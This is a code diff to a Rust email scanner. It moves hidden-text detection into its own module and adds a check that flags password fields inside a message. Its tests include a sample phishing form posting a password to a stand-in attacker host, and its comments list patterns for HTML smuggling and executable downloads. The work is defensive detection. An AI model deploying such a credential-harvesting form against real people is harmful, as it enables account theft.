@@ -3,22 +3,23 @@
 //!   msSaveOrOpenBlob (string pieces joined first), a `data:` URI carrying
 //!   an executable type, or a `download` link saving an executable or an
 //!   inline data:/blob: file;
-//! - hidden text: zero or tiny fonts, `display:none`, `visibility:hidden`,
-//!   text coloured like its background. One short hidden block (the usual
-//!   newsletter preheader) is tolerated.
+//! - hidden text (`hidden.rs`), calibrated on modern newsletters;
+//! - a password field in the message itself (issue 14).
 
 use crate::domain::Finding;
 use crate::scan::{FailureMode, ScanError, ScanInput, Scanner};
 use futures::future::BoxFuture;
-use scraper::{ElementRef, Html};
+use scraper::{Html, Selector};
 use std::time::Duration;
 
 /// JavaScript assembling a file from an embedded blob.
 pub const TAG_SMUGGLING: &str = "HTML_SMUGGLING";
 /// A data: URI with an executable content type.
 pub const TAG_DATA_URI_EXEC: &str = "HTML_DATA_URI_EXEC";
-/// Text hidden from the reader.
-pub const TAG_HIDDEN_TEXT: &str = "HTML_HIDDEN_TEXT";
+/// Text hidden from the reader (rules in `hidden.rs`).
+pub const TAG_HIDDEN_TEXT: &str = super::hidden::TAG_HIDDEN_TEXT;
+/// A password input in the message or an HTML/SVG attachment (issue 14).
+pub const TAG_PASSWORD_FORM: &str = "HTML_PASSWORD_FORM";
 /// A `download` link whose saved file is an executable, script, shortcut
 /// or disk image (issue 18: `download="invoice.exe"`).
 pub const TAG_DOWNLOAD_EXEC: &str = "HTML_DOWNLOAD_EXEC";
@@ -31,6 +32,7 @@ pub const TAGS: &[&str] = &[
     TAG_HIDDEN_TEXT,
     TAG_DOWNLOAD_EXEC,
     TAG_DATA_DOWNLOAD,
+    TAG_PASSWORD_FORM,
 ];
 
 const MIN_BLOB: usize = 4096;
@@ -51,10 +53,6 @@ const EXEC_TYPES: &[&str] = &[
 ];
 /// Longest content type read after `data:` (the longest listed is 29).
 const MAX_MIME: usize = 64;
-/// Hidden text shorter than this in a single block is treated as a preheader.
-const PREHEADER_MAX: usize = 300;
-/// Hidden text below this many characters in total is noise.
-const HIDDEN_MIN: usize = 80;
 
 /// HTML heuristics scanner.
 #[derive(Debug, Default)]
@@ -107,95 +105,15 @@ fn smuggling(html: &str, out: &mut Vec<Finding>) {
     }
 }
 
-/// CSS declarations of an inline style, lower-cased, whitespace removed.
-fn declarations(style: &str) -> Vec<(String, String)> {
-    style
-        .split(';')
-        .filter_map(|d| d.split_once(':'))
-        .map(|(k, v)| {
-            (
-                k.trim().to_ascii_lowercase(),
-                v.trim().to_ascii_lowercase().replace(' ', "").replace("!important", ""),
-            )
-        })
-        .collect()
-}
-
-fn tiny(size: &str) -> bool {
-    let num: String = size.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
-    let Ok(n) = num.parse::<f64>() else { return false };
-    let unit = &size[num.len()..];
-    match unit {
-        "px" | "" => n <= 2.0,
-        "pt" => n <= 1.5,
-        "em" | "rem" => n <= 0.15,
-        "%" => n <= 15.0,
-        _ => false,
-    }
-}
-
-fn hides(style: &str) -> Option<&'static str> {
-    let d = declarations(style);
-    let get = |k: &str| d.iter().rev().find(|(key, _)| key == k).map(|(_, v)| v.as_str());
-    if get("display") == Some("none") {
-        return Some("display:none");
-    }
-    if get("visibility") == Some("hidden") {
-        return Some("visibility:hidden");
-    }
-    if get("font-size").is_some_and(tiny) {
-        return Some("tiny font");
-    }
-    if get("opacity").and_then(|o| o.parse::<f64>().ok()).is_some_and(|o| o < 0.05) {
-        return Some("opacity:0");
-    }
-    if let (Some(c), Some(bg)) = (get("color"), get("background-color").or(get("background")))
-        && c == bg
-    {
-        return Some("text colour equals background");
-    }
-    None
-}
-
-/// How `el` itself hides its content, if it does.
-fn hidden_how(el: ElementRef<'_>) -> Option<&'static str> {
-    match el.value().attr("style").and_then(hides) {
-        Some(h) => Some(h),
-        None if el.value().name() == "font" && el.value().attr("size") == Some("0") => Some("font size 0"),
-        None => None,
-    }
-}
-
-fn hidden_text(html: &str, out: &mut Vec<Finding>) {
-    // Only the bounded prefix becomes a tree (issue 18); the input builder
-    // reports the cut as HTML_LIMIT_EXCEEDED.
-    let doc = Html::parse_document(crate::scan::htmlbound::bound(html).html);
-    let mut blocks: Vec<(usize, &'static str)> = Vec::new();
-    // Walk down from the root and stop at the first hidden element of each
-    // subtree: each hidden block counts once, at its outermost element, and
-    // every node is visited once (checking every styled element's ancestors
-    // cost nodes × depth).
-    let mut stack = vec![doc.root_element()];
-    while let Some(el) = stack.pop() {
-        if let Some(how) = hidden_how(el) {
-            let chars = el.text().map(|t| t.split_whitespace().map(str::len).sum::<usize>()).sum::<usize>();
-            if chars > 0 {
-                blocks.push((chars, how));
-            }
-            continue;
-        }
-        let children: Vec<ElementRef<'_>> = el.children().filter_map(ElementRef::wrap).collect();
-        stack.extend(children.into_iter().rev());
-    }
-    let total: usize = blocks.iter().map(|b| b.0).sum();
-    let preheader = blocks.len() == 1 && total <= PREHEADER_MAX;
-    if !preheader && total >= HIDDEN_MIN {
-        let mut hows: Vec<&str> = blocks.iter().map(|b| b.1).collect();
-        hows.dedup();
-        out.push(Finding::new(
-            TAG_HIDDEN_TEXT,
-            format!("{total} hidden characters in {} block(s): {}", blocks.len(), hows.join(", ")),
-        ));
+/// A password field inside the message itself (issue 14): mail that asks
+/// for a password in place, in its body or an HTML/SVG attachment.
+fn password_form(doc: &Html, out: &mut Vec<Finding>) {
+    let Ok(sel) = Selector::parse("input") else { return };
+    let found = doc
+        .select(&sel)
+        .any(|i| i.value().attr("type").is_some_and(|t| t.trim().eq_ignore_ascii_case("password")));
+    if found {
+        out.push(Finding::new(TAG_PASSWORD_FORM, "a form field asks for a password"));
     }
 }
 
@@ -220,7 +138,11 @@ impl Scanner for HtmlScanner {
             let mut out = Vec::new();
             for h in &input.html {
                 smuggling(h, &mut out);
-                hidden_text(h, &mut out);
+                // Only the bounded prefix becomes a tree (issue 18); the
+                // input builder reports the cut as HTML_LIMIT_EXCEEDED.
+                let doc = Html::parse_document(crate::scan::htmlbound::bound(h).html);
+                super::hidden::hidden_text(&doc, &mut out);
+                password_form(&doc, &mut out);
             }
             super::smuggle::downloads(&input.downloads, &mut out);
             out.dedup_by(|a, b| a.tag == b.tag);
@@ -236,7 +158,9 @@ mod tests {
     fn tags(html: &str) -> Vec<String> {
         let mut out = Vec::new();
         smuggling(html, &mut out);
-        hidden_text(html, &mut out);
+        let doc = Html::parse_document(html);
+        super::super::hidden::hidden_text(&doc, &mut out);
+        password_form(&doc, &mut out);
         out.into_iter().map(|f| f.tag).collect()
     }
 
@@ -310,12 +234,15 @@ mod tests {
     fn hidden_text_tolerates_one_preheader() {
         let pre = "<div style=\"display:none;max-height:0\">Your weekly digest: ten stories you should not miss this week, curated.</div><p>Hello</p>";
         assert!(tags(pre).is_empty());
-        let salad = "word ".repeat(40);
-        let stuffed = format!(
-            "<p>Pay now</p><span style='font-size:0px'>{salad}</span><span style='color:#fff;background-color:#fff'>{salad}</span>"
+    }
+
+    /// Issue 14: a login form inside the mail; a search box is fine.
+    #[test]
+    fn issue_14_password_forms() {
+        assert_eq!(
+            tags("<form action=\"https://evil.test/p\"><input name=e><input type=\"Password\" name=p></form>"),
+            vec![TAG_PASSWORD_FORM]
         );
-        assert_eq!(tags(&stuffed), vec![TAG_HIDDEN_TEXT]);
-        let big = format!("<div style='display: none'>{}</div>", "x".repeat(400));
-        assert_eq!(tags(&big), vec![TAG_HIDDEN_TEXT]);
+        assert!(tags("<form action=\"https://shop.example/search\"><input type=\"text\" name=q></form>").is_empty());
     }
 }
